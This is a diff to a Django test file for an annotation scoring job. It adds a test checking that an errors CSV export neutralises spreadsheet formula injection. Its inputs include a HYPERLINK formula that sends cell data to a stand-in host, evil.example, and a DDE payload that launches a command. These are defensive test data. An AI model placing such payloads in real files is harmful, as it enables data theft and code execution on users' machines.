@@ -1,16 +1,20 @@
 """The scoring job end to end in this process: selection, cache, rescoring, rubric versions, failures."""
 
+import csv
+import io
 import json
 import uuid
 
 import pytest
 from django.core.management import CommandError, call_command
+from django.urls import reverse
 
 from annotation import jobs
 from annotation.judging import rubric_map, score_params, start_scoring
 from annotation.models import Dataset, Job, Judge, JudgeCacheEntry, Judgement, Pair, Prompt, Response, Rubric
 from annotation.rubrics import DEFAULT_RUBRICS
 
+from .helpers import Team
 from .llm_server import LLMServer, Reply
 
 
@@ -87,6 +91,21 @@ def test_parse_errors_refusals_and_failed_requests_are_stored_with_the_raw_outpu
     assert by_text["EMPTY"].status == "parse_error"
     assert job.errors.count() == 5
     assert any("score 15 is outside 1-10" in e.reason for e in job.errors.all())
+
+
+def test_the_errors_csv_quotes_judge_output_that_a_spreadsheet_would_run_as_a_formula(rubrics, server, client):
+    answers = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
+               "\t=1+1", "回答中 -1 和 =2 不在开头"]
+    for i, answer in enumerate(answers):
+        server.when(f"«{i}»", Reply(content=answer))
+    team = Team.create("s")
+    make_responses(team.dataset, [f"«{i}»" for i in range(len(answers))])
+    job = run(team.dataset, [make_judge(server)])
+    client.force_login(team.viewer)
+    body = b"".join(client.get(reverse("job-errors-csv", args=[job.pk])).streaming_content).decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(body, newline="")))
+    assert sorted(row["excerpt"] for row in rows) == sorted(["'" + a for a in answers[:-1]] + answers[-1:])
+    assert all("parse_error: no score found" in row["reason"] for row in rows)
 
 
 def test_a_rerun_scores_only_what_is_missing_and_retries_errors(rubrics, server, settings):
